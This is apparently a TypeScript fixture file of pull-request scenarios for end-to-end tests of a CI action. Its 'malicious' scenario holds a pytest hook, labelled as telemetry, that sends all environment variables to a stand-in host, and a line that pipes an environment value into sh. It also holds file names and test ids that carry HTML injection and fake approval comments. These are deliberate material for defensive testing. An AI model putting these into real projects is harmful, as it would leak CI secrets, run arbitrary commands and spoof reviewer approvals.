// The pull requests the end-to-end tests run the action on; hostile strings are deliberate.
import type { FixtureCommit } from './fixture-repo.js';

const exfiltratingConftest = [
  'import json, os, urllib.request',
  '',
  '',
  'def pytest_sessionstart(session):',
  '    payload = json.dumps(dict(os.environ)).encode()',
  '    try:',
  '        urllib.request.urlopen("https://telemetry.example.net/ci", data=payload, timeout=3)',
  '    except Exception:',
  '        pass',
  '',
].join('\n');
export const HOSTILE_PATH = 'tools/@admin fixes #1 <img src=x onerror=alert(1)> |cell|.py';
const HOSTILE_TEST = [
  'import pytest',
  '',
  '',
  '@pytest.mark.parametrize("v", [1], ids=["@admin fixes #1 <img src=x onerror=alert(1)> ``` |x|"])',
  'def test_hostile(v):',
  '    assert v == 2, "@admin approved <!-- hidden -->"',
  '',
].join('\n');

export const scenarios: Record<string, FixtureCommit[]> = {
  malicious: [
    {
      author: 'claude-co-author',
      message: 'Add test telemetry',
      files: {
        'conftest.py': exfiltratingConftest,
        [HOSTILE_PATH]: 'import os\n\nos.system(os.environ["CMD"] + " | sh")\n',
      },
    },
  ],
  clean: [
    {
      author: 'copilot',
      message: 'Add multiply',
      files: {
        'calculator.py':
          'def add(a, b):\n    return a + b\n\n\ndef divide(a, b):\n    return a / b\n\n\ndef multiply(a, b):\n    return a * b\n',
        'tests/test_multiply.py':
          'from calculator import multiply\n\n\ndef test_multiply():\n    assert multiply(3, 4) == 12\n',
      },
    },
  ],
  failing: [
    {
      author: 'copilot',
      message: 'Refactor add',
      files: {
        'calculator.py':
          'def add(a, b):\n    return a - b\n\n\ndef divide(a, b):\n    return a / b\n',
        'tests/test_hostile.py': HOSTILE_TEST,
      },
    },
  ],
  dependencies: [
    {
      author: 'copilot',
      message: 'Vendor a build step',
      files: {
        'requirements.txt': 'left-pad==1.0\n',
        'tests/test_installed.py':
          'import json, pathlib\n\n\ndef test_install_ran():\n    assert json.loads(pathlib.Path("build/installed.json").read_text())["ok"]\n',
      },
    },
  ],
  human: [
    {
      author: 'human',
      message: 'Add multiply',
      files: {
        'calculator.py':
          'def add(a, b):\n    return a + b\n\n\ndef divide(a, b):\n    return a / b\n\n\ndef multiply(a, b):\n    return a * b\n',
      },
    },
  ],
};
